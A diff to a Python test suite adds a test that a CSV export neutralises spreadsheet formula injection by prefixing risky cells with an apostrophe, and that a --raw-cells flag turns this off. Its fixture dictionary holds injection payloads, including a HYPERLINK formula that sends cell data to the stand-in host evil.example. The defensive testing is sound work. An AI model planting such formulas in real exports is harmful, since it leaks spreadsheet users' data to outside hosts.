@@ -16,7 +16,7 @@ from server import main
 from storage.queries import PUSH_COLUMNS
 from tests.bulk import add_pushes
 from tests.process import ROOT
-from tests.support import both_backends, migrated, rows
+from tests.support import both_backends, execute, migrated, rows
 
 # server.main() must not pick up the checkout's ./config.toml.
 pytestmark = pytest.mark.usefixtures("away_from_config")
@@ -141,3 +141,36 @@ def test_export_into_a_pipe_closed_early_ends_quietly(db_path: Any) -> None:
     assert first["seq"] == 1
     assert "Traceback" not in errors
     assert "exception" not in errors.lower()
+
+
+# Cells a spreadsheet would run, as a sender (or anyone, without a push token) can plant them.
+FORMULAS = {
+    "workflow_name": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "node_name": "+1+1",
+    "case_id": "-2+3",
+    "task_id": "@SUM(1,1)",
+    "robot_id": "\t=1",
+    "intention": "\r=1",
+}
+
+
+def test_export_csv_quotes_cells_a_spreadsheet_would_run(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    db = migrated(tmp_path / "pushes.sqlite3")
+    add_pushes(db, 2)
+    columns = ", ".join(f"{name} = ?" for name in FORMULAS)
+    execute(db, f"UPDATE pushes SET {columns} WHERE seq = 1", tuple(FORMULAS.values()))
+
+    def exported(*flags: str) -> list[dict[str, str]]:
+        out = tmp_path / "calls.csv"
+        assert main(["export", "--db", str(db), "--format", "csv", "--output", str(out), *flags]) == 0
+        with out.open(newline="") as table:
+            return list(csv.DictReader(table))
+
+    planted, plain = exported()
+    assert {name: planted[name] for name in FORMULAS} == {name: "'" + value for name, value in FORMULAS.items()}
+    assert (planted["seq"], planted["call_id"], plain["workflow_name"]) == ("1", "bulk1", "bulk workflow")
+    planted, _ = exported("--raw-cells")
+    assert {name: planted[name] for name in FORMULAS} == FORMULAS
+    # JSON lines are for programs, not spreadsheets: unchanged.
+    assert main(["export", "--db", str(db)]) == 0
+    assert orjson.loads(capsys.readouterr().out.splitlines()[0])["node_name"] == "+1+1"
